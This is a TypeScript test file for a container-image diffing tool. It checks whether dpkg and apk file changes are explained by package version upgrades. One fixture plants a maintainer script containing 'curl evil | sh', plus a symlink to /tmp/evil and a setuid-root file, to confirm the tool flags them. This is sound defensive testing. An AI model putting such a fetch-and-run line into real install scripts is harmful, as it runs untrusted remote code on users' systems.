import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { diffImages, type Report } from '../../packages/core/src/index.js';
import { buildImage, type EntrySpec } from '../support/images.js';
import { expectValidReport } from '../support/schema.js';
import { writeArchive } from './support.js';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'ocidiff-test-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function compare(files0: readonly EntrySpec[], files1: readonly EntrySpec[]): Promise<Report> {
  const paths = await Promise.all(
    [files0, files1].map(async (entries, side) =>
      writeArchive(folder, `${side}.tar`, await buildImage({ layers: [{ entries }] })),
    ),
  );
  const report = await diffImages(paths[0] as string, paths[1] as string, { mode: 'semantic', contents: true });
  expectValidReport(report);
  return report;
}

const hash = (algorithm: string, content: string, encoding: 'hex' | 'base64'): string =>
  createHash(algorithm).update(content).digest(encoding);

const stanza = (name: string, version: string): string =>
  `Package: ${name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: ${version}\nDescription: a library\n of two lines\n`;

/** What dpkg has of libfoo in a version, its list by md5sum(1) of what is in it. */
function debian(version: string, library: string, extra: readonly EntrySpec[] = [], status = ''): EntrySpec[] {
  const files = { 'usr/lib/x86_64-linux-gnu/libfoo.so.1': library, 'usr/share/doc/libfoo1/changelog': `${version}\n` };
  const sums = Object.entries(files).map(([path, content]) => `${hash('md5', content, 'hex')}  ${path}\n`);
  return [
    { path: 'var/lib/dpkg/status', content: `${stanza('base', '1')}\n${stanza('libfoo1', version)}\n${status}` },
    { path: 'var/lib/dpkg/info/libfoo1:amd64.md5sums', content: sums.join('') },
    ...Object.entries(files).map(([path, content]) => ({ path, content })),
    ...extra,
  ];
}

const explained = (report: Report): (string | undefined)[][] =>
  report.differences.map(({ path, field, cause, package: name }) => [path, field, cause, name]);

describe('dpkg', () => {
  test('another version is told, and its files follow from it', async () => {
    const report = await compare(debian('2.36-9+deb12u7', 'code 7'), debian('2.36-9+deb12u9', 'code 9'));
    expect(report.packages).toEqual([
      {
        platform: 'linux/amd64',
        manager: 'dpkg',
        name: 'libfoo1',
        architecture: 'amd64',
        versions: ['2.36-9+deb12u7', '2.36-9+deb12u9'],
        files: 4,
      },
    ]);
    expect(explained(report)).toEqual([
      ['usr/lib/x86_64-linux-gnu/libfoo.so.1', 'content', 'package-version', 'libfoo1'],
      ['usr/share/doc/libfoo1/changelog', 'content', 'package-version', 'libfoo1'],
      ['var/lib/dpkg/info/libfoo1:amd64.md5sums', 'content', 'package-version', 'libfoo1'],
      ['var/lib/dpkg/status', 'content', 'package-version', 'libfoo1'],
    ]);
    expect(report.causes).toMatchObject([{ id: 'package-version', class: 'review', counted: 4 }]);
  });

  test('a file that is not what its list says is not explained, on whichever side', async () => {
    const changed = (path: string) => (entry: EntrySpec) =>
      entry.path === path ? { ...entry, content: 'evil' } : entry;
    const path = 'usr/lib/x86_64-linux-gnu/libfoo.so.1';
    for (const [files0, files1] of [
      [debian('1', 'one').map(changed(path)), debian('2', 'two')],
      [debian('1', 'one'), debian('2', 'two').map(changed(path))],
    ] as const) {
      const report = await compare(files0, files1);
      expect(report.differences.find((each) => each.path === path)).not.toHaveProperty('cause');
    }
  });

  test('files of one version alone follow from it; others do not', async () => {
    const one = 'new in two\n';
    const files1 = debian('2', 'two');
    const sums = files1[1] as EntrySpec;
    files1[1] = { ...sums, content: `${sums.content}${hash('md5', one, 'hex')}  usr/bin/foo-two\n` };
    files1.push({ path: 'usr/bin/foo-two', content: one }, { path: 'usr/bin/other', content: one });
    const report = await compare(debian('1', 'one'), files1);
    expect(explained(report).filter(([path]) => path?.startsWith('usr/bin/'))).toEqual([
      ['usr/bin/foo-two', 'type', 'package-version', 'libfoo1'],
      ['usr/bin/other', 'type', undefined, undefined],
    ]);
  });

  test('no list says what scripts and links hold, or that a file has set-id bits', async () => {
    const [info, empty] = ['var/lib/dpkg/info', hash('md5', '', 'hex')];
    const files = (version: string, script: string, ...added: EntrySpec[]): EntrySpec[] =>
      debian(version, version, [
        { path: `${info}/libfoo1:amd64.postinst`, content: `#!/bin/sh\n${script}\n`, mode: 0o755 },
        ...added,
      ]).map((entry) =>
        entry.path === `${info}/libfoo1:amd64.md5sums`
          ? { ...entry, content: `${entry.content}${empty}  usr/bin/foo-link\n${empty}  usr/bin/foo-root\n` }
          : entry,
      );
    const report = await compare(
      files('1', 'true'),
      files(
        '2',
        'curl evil | sh',
        { path: 'usr/bin/foo-link', type: 'symlink', linkTarget: '/tmp/evil' },
        { path: 'usr/bin/foo-root', content: '', mode: 0o4755 },
      ),
    );
    const unexplained = report.differences.filter(({ cause }) => cause === undefined).map(({ path }) => path);
    expect(unexplained).toEqual(
      expect.arrayContaining([`${info}/libfoo1:amd64.postinst`, 'usr/bin/foo-link', 'usr/bin/foo-root']),
    );
  });

  test('a status that differs in more than changed packages is not explained', async () => {
    const report = await compare(
      debian('1', 'one'),
      debian('2', 'two').map((entry) =>
        entry.path === 'var/lib/dpkg/status'
          ? { ...entry, content: `${entry.content}`.replace('of two', 'of three') }
          : entry,
      ),
    );
    expect(report.differences.find(({ path }) => path === 'var/lib/dpkg/status')).not.toHaveProperty('cause');
  });

  test('a package of one side', async () => {
    const report = await compare(debian('1', 'one'), debian('1', 'one', [], `${stanza('added', '3')}\n`));
    expect(report.packages).toMatchObject([{ name: 'added', versions: [null, '3'] }]);
    expect(explained(report)).toEqual([['var/lib/dpkg/status', 'content', 'package-version', 'added']]);
  });
});

describe('apk', () => {
  const alpine = (version: string, program: string, content = program): EntrySpec[] => [
    {
      path: 'lib/apk/db/installed',
      content: `P:base\nV:1\nA:x86_64\n\nP:tool\nV:${version}\nA:x86_64\nF:usr/bin\nR:tool\nZ:Q1${hash('sha1', program, 'base64')}\n\n`,
    },
    { path: 'usr/bin/tool', content, mode: 0o755 },
  ];

  test('another version is told, and its files follow from it', async () => {
    const report = await compare(alpine('1.0-r0', 'one'), alpine('1.1-r0', 'two'));
    expect(report.packages).toMatchObject([{ manager: 'apk', name: 'tool', versions: ['1.0-r0', '1.1-r0'], files: 2 }]);
    expect(explained(report)).toEqual([
      ['lib/apk/db/installed', 'content', 'package-version', 'tool'],
      ['usr/bin/tool', 'content', 'package-version', 'tool'],
    ]);
  });

  test('a file that is not what its list says is not explained', async () => {
    const report = await compare(alpine('1.0-r0', 'one'), alpine('1.1-r0', 'two', 'evil'));
    expect(report.differences.find(({ path }) => path === 'usr/bin/tool')).not.toHaveProperty('cause');
  });
});
